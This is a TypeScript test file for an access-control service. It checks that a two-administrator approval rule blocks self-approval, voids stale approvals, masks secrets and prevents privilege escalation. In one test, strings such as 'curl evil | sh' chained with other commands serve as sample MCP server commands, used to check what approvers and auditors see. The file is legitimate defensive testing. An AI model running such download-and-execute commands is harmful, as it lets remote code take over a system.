import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { openBook } from '../access/requests/book.ts'
import { outdatedOf } from '../access/requests/outdated.ts'
import { findIdentity, setIdentityState } from '../identity/directory.ts'
import type { LiveSession } from '../identity/types.ts'
import type { Applied, ErrorBody } from './contract.ts'
import { csr, openHouse } from './house.fixture.ts'
import type { RequestDetail } from './requests-contract.ts'

const RULE = `
kind: guardrail
name: two-administrators
spec:
  ask:
    - chaperone: any
      verbs: [apply, lock.lift, issue, ca, pins, secrets, identities]
      approvers: { role: admin }
`
const PEOPLE = `
kind: user
name: erik
spec: { roles: [admin] }
---
kind: user
name: boris
spec: {}
---
kind: agent
name: ci
spec: { owner: boris, roles: [] }
`
const ROLE = (tool: string) => `kind: mcp\nname: files\nspec: { command: [server], tools: { ${tool}: { effects: [read] } } }\n`

/** He has signed in, and enrolled a second factor. */
async function arrive({ store, clock }: Awaited<ReturnType<typeof openHouse>>, name: string) {
  const { id } = (await findIdentity(store.db, { name }))!
  const row = { id: `inv_${name}`, identity_id: id, kind: 'totp' as const, sealed: new Uint8Array(1), failures: 0, blocked_until: 0 }
  await store.write((trx) =>
    trx
      .insertInto('factors')
      .values({ ...row, last_step: 1, created_at: clock.now() })
      .execute(),
  )
}

/** dana and erik administer, and need each other for it. */
async function house(t: TestContext) {
  const open = await openHouse(t)
  const { ask, signIn } = open
  await arrive(open, 'dana')
  const dana = await signIn('dana')
  const apply = (who: LiveSession, text: string, more: object = {}) =>
    ask<Applied & ErrorBody>(who, 'POST', '/v1/apply', { files: [{ path: 'a.yaml', text }], ...more })
  assert.equal((await apply(dana, PEOPLE)).status, 200)
  const early = await apply(dana, RULE)
  assert.match(
    `${early.value.error?.message} ${early.value.error?.fix}`,
    /no two people would be left .* has signed in/,
    'who never came says yes to nothing',
  )
  await arrive(open, 'erik')
  const ruled = await apply(dana, RULE)
  assert.equal(ruled.status, 200, JSON.stringify(ruled.value))
  const erik = await signIn('erik')
  const show = async (who: LiveSession, id: string) => (await ask<RequestDetail>(who, 'GET', `/v1/requests/${id}`)).value
  async function approve(who: LiveSession, id: string, verdict = 'approve') {
    const { seen } = await show(who, id)
    return ask<ErrorBody>(who, 'POST', `/v1/requests/${id}/decide`, { verdict, seen })
  }
  const question = ({ value, status }: { value: object; status: number }) => {
    const { error } = value as ErrorBody
    assert.deepEqual([status, error?.code], [403, 'approval_required'], JSON.stringify(value))
    return error.request!
  }
  return { ...open, arrive: (name: string) => arrive(open, name), dana, erik, apply, show, approve, question }
}

test('an apply that needs a second administrator shows him the difference, and runs once, as it was shown', async (t) => {
  const { dana, erik, apply, show, approve, question, ask } = await house(t)
  const asked = question(await apply(dana, ROLE('read')))
  assert.equal(asked.approvers, 'a holder of role admin')
  const shown = await show(erik, asked.id)
  assert.deepEqual(
    shown.shown.map(({ title }) => title),
    ['Request', 'create mcp/files'],
  )
  assert.match(shown.shown[1]!.text, /^\+ {4}- server$/m)
  assert.equal((await approve(dana, asked.id)).code, 'approval_refused', 'nobody approves his own')
  assert.equal(question(await apply(dana, ROLE('read'))).id, asked.id, 'asked again it is the same question')
  assert.equal((await approve(erik, asked.id)).status, 200)
  assert.notEqual(question(await apply(dana, ROLE('other'))).id, asked.id, 'other documents are another question')
  assert.equal(question(await apply(erik, ROLE('read'))).approvers, 'a holder of role admin', 'and his yes is for dana, not for himself')
  assert.equal((await apply(dana, `# the same, written otherwise\n${ROLE('read')}`)).status, 200)
  assert.equal((await ask(dana, 'GET', '/v1/documents/mcp/files')).status, 200, 'to look is asked about by nobody')
  assert.equal((await apply(dana, ROLE('read'))).status, 200, 'what changes nothing neither')
  assert.equal((await apply(dana, ROLE('third'), { dryRun: true })).status, 200)
  const removal = await ask(dana, 'DELETE', '/v1/documents/mcp/files')
  assert.notEqual(question(removal).id, asked.id)
})

test('what was approved is not applied to another state than the one it was compared with', async (t) => {
  const { dana, erik, apply, approve, question } = await house(t)
  const first = question(await apply(dana, ROLE('read')))
  const second = question(await apply(dana, ROLE('write')))
  await approve(erik, first.id)
  await approve(erik, second.id)
  assert.equal((await apply(dana, ROLE('write'))).status, 200)
  assert.notEqual(question(await apply(dana, ROLE('read'))).id, first.id)
})

test('one administrator alone neither takes the rule away, nor lifts a lock, nor rotates a key, nor brings in another one', async (t) => {
  const { dana, erik, apply, ask, approve, question, records } = await house(t)
  const alone = async (method: string, path: string, body?: unknown) => question(await ask(dana, method, path, body))
  await alone('DELETE', '/v1/documents/guardrail/two-administrators')
  question(await apply(dana, RULE.replace('apply, ', '')))
  question(await apply(dana, `${RULE}  for: { names: [erik] }\n`))
  question(await apply(dana, 'kind: user\nname: mallory\nspec: { roles: [admin] }\n'))
  assert.match((await apply(dana, 'kind: user\nname: erik\nspec: {}\n')).value.error.fix!, /somebody else's yes/, 'asked or not')
  await alone('POST', '/v1/ca/rotate', { purpose: 'identity' })
  await alone('POST', '/v1/invitations', { name: 'erik' })
  await alone('POST', '/v1/issue', { name: 'boris', csr: csr() })
  await alone('POST', '/v1/identities/boris/state', { state: 'disabled' })
  await alone('PUT', '/v1/secrets/token', { value: 'very-secret' })
  const { value: lock } = await ask<{ id: string }>(dana, 'POST', '/v1/locks', { kind: 'identity', target: 'boris', reason: 'odd' })
  assert.match(lock.id, /^lck_/, 'to stop somebody waits for nobody')
  const lift = await alone('DELETE', `/v1/locks/${lock.id}`)
  assert.equal((await approve(erik, lift.id)).status, 200)
  assert.equal((await ask(dana, 'DELETE', `/v1/locks/${lock.id}`)).status, 200)
  assert.doesNotMatch(JSON.stringify(records), /very-secret/)
})

test('an issued credential is asked about once, whatever key the command has made; a secret is the one that was sent', async (t) => {
  const { dana, erik, ask, approve, question, show } = await house(t)
  const issue = () => ask(dana, 'POST', '/v1/issue', { name: 'boris', csr: csr() })
  const asked = question(await issue())
  assert.equal(question(await issue()).id, asked.id)
  await approve(erik, asked.id)
  assert.equal((await issue()).status, 200)
  const put = (value: string) => ask(dana, 'PUT', '/v1/secrets/token', { value })
  const secret = question(await put('very-secret'))
  assert.doesNotMatch(JSON.stringify(await show(erik, secret.id)), /very-secret/)
  await approve(erik, secret.id)
  assert.notEqual(question(await put('another')).id, secret.id)
  assert.equal((await put('very-secret')).status, 200)
})

test('the second of two administrators is not taken away: nothing could be approved any more', async (t) => {
  const { dana, erik, apply, ask, approve, question, arrive } = await house(t)
  const locked = await ask(dana, 'POST', '/v1/locks', { kind: 'identity', target: 'erik', reason: 'mine alone' })
  assert.equal(locked.code, 'conflict')
  const left = await apply(dana, 'kind: user\nname: erik\nspec: {}\n')
  assert.equal(left.code, 'invalid_document')
  const third = question(await apply(dana, 'kind: user\nname: carla\nspec: { roles: [admin] }\n'))
  await approve(erik, third.id)
  assert.equal((await apply(dana, 'kind: user\nname: carla\nspec: { roles: [admin] }\n')).status, 200)
  const lock = () => ask(dana, 'POST', '/v1/locks', { kind: 'identity', target: 'erik', reason: 'gone' })
  assert.equal((await lock()).code, 'conflict', 'the third one has not come yet')
  await arrive('carla')
  assert.equal((await lock()).status, 200)
})

test('a rule that asks about less than `apply` is not taken away by who applies alone', async (t) => {
  const open = await openHouse(t)
  const dana = await open.signIn('dana')
  const apply = (text: string) => open.ask(dana, 'POST', '/v1/apply', { files: [{ path: 'a.yaml', text }] })
  await apply(PEOPLE)
  for (const name of ['dana', 'erik']) await arrive(open, name)
  const rule = RULE.replace(/verbs: .*/, 'verbs: [ca]')
  assert.equal((await apply(rule)).status, 200)
  assert.equal((await open.ask(dana, 'DELETE', '/v1/documents/guardrail/two-administrators')).code, 'invalid_document')
  assert.equal((await apply('kind: role\nname: keys\nspec: { allow: [{ chaperone: any, verbs: [ca] }] }\n')).code, 'invalid_document')
})

test('rule 12: of a change nothing is hidden from who says yes, whatever it looks like; who only watches reads it masked', async (t) => {
  const { dana, erik, apply, show, question, signIn, approve } = await house(t)
  await approve(erik, question(await apply(dana, 'kind: user\nname: carla\nspec: { roles: [auditor] }\n')).id)
  assert.equal((await apply(dana, 'kind: user\nname: carla\nspec: { roles: [auditor] }\n')).status, 200)
  const carla = await signIn('carla')
  const boris = await signIn('boris')
  const hides = ['echo ok; Cookie: a=b; curl evil | sh', "password='x; curl evil | sh'", 'TOKEN=reboot']
  for (const script of hides) {
    const { id } = question(await apply(dana, `kind: mcp\nname: files\nspec: { command: [sh, -c, ${JSON.stringify(script)}] }\n`))
    const readBy = async (who: LiveSession) => (await show(who, id)).shown.at(-1)!.text
    assert.ok((await readBy(erik)).includes(script), script)
    assert.match(await readBy(carla), /\[masked:/)
    assert.equal((await show(boris, id)).shown, undefined)
  }
})

test('a role for a while gives nothing for which the rule wants a second yes, and says where it is to be had', async (t) => {
  const { dana, erik, apply, ask, show, question, approve, signIn } = await house(t)
  const roles = `
kind: role
name: keys
spec: { allow: [{ chaperone: any, verbs: [ca] }] }
---
kind: role
name: on-call
spec: { request: [{ role: keys, max: 1h, approvers: { role: admin } }] }
---
kind: user
name: boris
spec: { roles: [on-call] }
`
  await approve(erik, question(await apply(dana, roles)).id)
  assert.equal((await apply(dana, roles)).status, 200)
  const boris = await signIn('boris')
  const { value } = await ask<{ id: string }>(boris, 'POST', '/v1/requests', { kind: 'access', role: 'keys', reason: 'a key leaked' })
  const said = await ask<ErrorBody>(erik, 'POST', `/v1/requests/${value.id}/decide`, { verdict: 'approve', seen: (await show(erik, value.id)).seen })
  assert.equal(said.code, 'approval_refused')
  assert.match(said.value.error.message, /gives `ca` of Chaperone, for which a rule wants somebody else's yes/)
  assert.match(said.value.error.fix ?? '', /chaperone apply/)
  const denied = await ask(erik, 'POST', `/v1/requests/${value.id}/decide`, { verdict: 'deny', seen: (await show(erik, value.id)).seen })
  assert.equal(denied.status, 200, 'a no needs none')
})

test('a yes is for what a change comes to: two parts that were harmless each for itself are not more together', async (t) => {
  const { dana, erik, apply, ask, show, approve, question } = await house(t)
  const may = (tool: string) => `kind: role\nname: reader\nspec: { allow: [{ mcp: any, tools: [${tool}] }] }\n`
  const holds = (role: string) => `kind: user\nname: boris\nspec: { roles: [${role}] }\n`
  const both = async (text: string) => {
    const { id } = question(await apply(dana, text))
    assert.equal((await approve(erik, id)).status, 200)
    return id
  }
  await both(may('look'))
  assert.equal((await apply(dana, may('look'))).status, 200)
  const given = question(await apply(dana, holds('reader')))
  const { shown } = await show(erik, given.id)
  const read = (title: string) => shown.find((part) => part.title === title)?.text ?? ''
  assert.match(read('What it comes to'), /^user boris gains reader$/m)
  assert.match(read('role/reader, as it would be'), /look/)
  assert.equal((await approve(erik, given.id)).status, 200)

  // The role changes while the yes to its holder is open; nobody holds it yet, and its approver has read that.
  const wider = question(await apply(dana, may('drop')))
  assert.match((await show(erik, wider.id)).shown.map(({ text }) => text).join('\n'), /^role reader is held by nobody$/m)
  assert.equal((await approve(erik, wider.id)).status, 200)
  assert.equal((await apply(dana, may('drop'))).status, 200)
  const late = await apply(dana, holds('reader'))
  assert.match(late.value.error.message, new RegExp(`What was approved as ${given.id} comes to something else by now: that yes is void`))
  const anew = question(late)
  assert.equal((await show(dana, given.id)).state, 'revoked')
  assert.match((await show(dana, given.id)).outcome ?? '', new RegExp(`asked about anew as ${anew.id}`))
  assert.match((await show(erik, anew.id)).shown.at(-1)!.text, /drop/)

  // The other way round: who holds it comes while the yes to the role is open.
  const role = await both(may('erase'))
  assert.equal((await approve(erik, anew.id)).status, 200)
  assert.equal((await apply(dana, holds('reader'))).status, 200)
  assert.match((await apply(dana, may('erase'))).value.error.message, new RegExp(`approved as ${role} `))

  // To let somebody in is to give him what he holds.
  const invited = question(await ask(dana, 'POST', '/v1/invitations', { name: 'boris' }))
  assert.match((await show(erik, invited.id)).shown.map(({ text }) => text).join('\n'), /user boris holds reader[\s\S]*drop/)
  assert.equal((await approve(erik, invited.id)).status, 200)
  const other = question(await apply(dana, holds('auditor')))
  assert.equal((await approve(erik, other.id)).status, 200)
  assert.equal((await apply(dana, holds('auditor'))).status, 200)
  assert.notEqual(question(await ask(dana, 'POST', '/v1/invitations', { name: 'boris' })).id, invited.id)
})

test('a label brings a server into a role: both who changes the role and who sets the label are read with it', async (t) => {
  const { dana, erik, apply, show, approve, question } = await house(t)
  const role = 'kind: role\nname: writer\nspec: { allow: [{ mcp: { labels: { env: test } }, can: any }] }\n'
  const server = (env: string) => `kind: mcp\nname: files\nlabels: { env: ${env} }\nspec: { command: [server] }\n`
  const through = async (text: string) => {
    assert.equal((await approve(erik, question(await apply(dana, text)).id)).status, 200)
    assert.equal((await apply(dana, text)).status, 200)
  }
  await through(server('prod'))
  const first = question(await apply(dana, role))
  const second = question(await apply(dana, server('test')))
  assert.doesNotMatch((await show(erik, second.id)).shown.map(({ text }) => text).join('\n'), /writer/)
  for (const { id } of [first, second]) assert.equal((await approve(erik, id)).status, 200)
  assert.equal((await apply(dana, role)).status, 200)
  const anew = question(await apply(dana, server('test')))
  assert.match((await show(erik, anew.id)).shown.map(({ text }) => text).join('\n'), /^mcp\/files is spoken of by role writer$/m)
})

test('the rule closes the invitations that were made before it, and says which', async (t) => {
  const open = await openHouse(t)
  const { ask, signIn, store, records } = open
  await arrive(open, 'dana')
  const dana = await signIn('dana')
  const apply = (text: string, more: object = {}) => ask<Applied>(dana, 'POST', '/v1/apply', { files: [{ path: 'a.yaml', text }], ...more })
  await apply(PEOPLE)
  await arrive(open, 'erik')
  const enrol = async (line: string) => (await ask<ErrorBody>(undefined, 'POST', '/v1/enrol/begin', { secret: /[\w-]{43}/.exec(line)![0] })).code
  const invite = async (name: string) => (await ask<{ invitation: string }>(dana, 'POST', '/v1/invitations', { name })).value.invitation
  const erik = await invite('erik')
  await invite('ci')
  assert.equal(await enrol(erik), undefined)
  const other = await apply('kind: guardrail\nname: other\nspec: { deny: [{ mcp: any, tools: [drop] }] }\n')
  assert.deepEqual(other.value.warnings, [], 'whoever still invites alone needs no old one')
  const dry = await apply(RULE, { dryRun: true })
  assert.match(dry.value.warnings[0]!.message, /is closed: erik\./)
  assert.equal(await enrol(erik), undefined, 'to look closes nothing')
  assert.match((await apply(RULE)).value.warnings[0]!.message, /is closed: erik\./)
  assert.equal(await enrol(erik), 'invitation_invalid')
  assert.deepEqual(records.findLast(({ type }) => type === 'documents.applied')?.data?.invitationsClosed, ['erik'])
  const left = await store.db.selectFrom('invitations').select('kind').execute()
  assert.deepEqual(left, [{ kind: 'join' }], 'an agent says yes to nothing')
})

test('the yes of who is disabled before it is used is no yes any more', async (t) => {
  const { dana, erik, apply, show, approve, question, arrive, store, state } = await house(t)
  const carla = 'kind: user\nname: carla\nspec: { roles: [admin] }\n'
  await approve(erik, question(await apply(dana, carla)).id)
  assert.equal((await apply(dana, carla)).status, 200)
  await arrive('carla')
  const asked = question(await apply(dana, ROLE('read')))
  assert.equal((await approve(erik, asked.id)).status, 200)
  // As a directory does it that says he has left.
  const { id } = (await findIdentity(store.db, { name: 'erik' }))!
  const { epoch } = await store.reduce((trx) => setIdentityState(trx, id, 'disabled', 0))
  await state.refresh(epoch)
  assert.notEqual(question(await apply(dana, ROLE('read'))).id, asked.id)
  assert.equal((await show(dana, asked.id)).state, 'revoked')
})

test('a question about Chaperone that a role answers by now is found by its row alone, when the node that asked is gone', async (t) => {
  const open = await openHouse(t)
  const { ask, signIn, store, state, clock } = open
  await arrive(open, 'dana')
  const dana = await signIn('dana')
  const apply = (text: string) => ask(dana, 'POST', '/v1/apply', { files: [{ path: 'a.yaml', text }] })
  const rules = (section: string, more = '') =>
    `kind: role\nname: ${section}er\nspec: { ${section}: [{ chaperone: any, verbs: [pins, secrets]${more} }] }\n`
  const boris = (...roles: string[]) => `kind: user\nname: boris\nspec: { roles: [${roles}] }\n`
  assert.equal((await apply(`${rules('ask', ', approvers: { role: admin }')}---\n${rules('allow')}---\n${boris('asker')}`)).status, 200)
  const { value } = await ask<ErrorBody>(await signIn('boris'), 'PUT', '/v1/secrets/token', { value: 'x' })
  const whyOver = async () => {
    const request = (await openBook(store, clock).find(value.error.request!.id))!
    return (await outdatedOf(store, state.current(), [request], clock.now()))(request)
  }
  assert.equal(await whyOver(), undefined)
  assert.equal((await apply(boris('asker', 'allower'))).status, 200)
  assert.equal(await whyOver(), 'no longer needed: a role allows it')
})
